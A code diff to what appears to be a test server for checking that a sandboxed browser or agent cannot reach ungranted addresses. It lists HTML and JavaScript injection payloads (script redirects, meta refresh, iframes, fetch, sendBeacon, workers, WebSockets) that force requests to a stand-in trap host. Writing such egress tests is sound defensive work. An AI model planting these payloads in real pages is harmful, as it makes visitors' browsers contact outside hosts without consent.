@@ -30,14 +30,14 @@ from data.task import Task
 
 # {trap} is an address that no task set granted.
 ATTACKS = {
-    "redirect": "<script>location = '/redirect?to={trap}'</script>",
+    "redirect": "<script>location = '/to?there={trap}'</script>",
     "script": "<script>location = '{trap}'</script>",
     "refresh": "<meta http-equiv=refresh content='0;url={trap}'>",
     "iframe": "<iframe src='{trap}'></iframe>",
-    "redirected iframe": "<iframe src='/redirect?to={trap}'></iframe>",
+    "redirected iframe": "<iframe src='/to?there={trap}'></iframe>",
     "image": "<img src='{trap}'>",
     "fetch": "<script>fetch('{trap}', {{mode: 'no-cors'}})</script>",
-    "redirected fetch": "<script>fetch('/redirect?to={trap}', {{mode: 'no-cors'}})</script>",
+    "redirected fetch": "<script>fetch('/to?there={trap}', {{mode: 'no-cors'}})</script>",
     "beacon": "<script>navigator.sendBeacon('{trap}', 'x')</script>",
     "worker": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{trap}', {{mode: 'no-cors'}})`])))</script>",
     "websocket": "<script>new WebSocket('{trap}'.replace('http', 'ws'))</script>",
@@ -60,15 +60,16 @@ class Server:
             def do_GET(self) -> None:
                 address = urlsplit(self.path)
                 server.hits.append(address.path)
-                if address.path == "/redirect":
+                if address.path == "/to":
                     self.send_response(302)
-                    self.send_header("location", parse_qs(address.query)["to"][0])
+                    self.send_header("location", parse_qs(address.query)["there"][0])
                     body = b""
                 else:
                     self.send_response(200)
                     self.send_header("content-type", "text/html")
                     name = address.path[1:].replace("%20", " ")
-                    body = ATTACKS.get(name, "<p>fine</p>").format(trap=trap + address.path).encode()
+                    attack = ATTACKS.get(name, "") if trap else ""  # the trap leads nowhere
+                    body = (attack.format(trap=trap + address.path) or "<p>fine</p>").encode()
                 self.send_header("content-length", str(len(body)))
                 self.end_headers()
                 self.wfile.write(body)
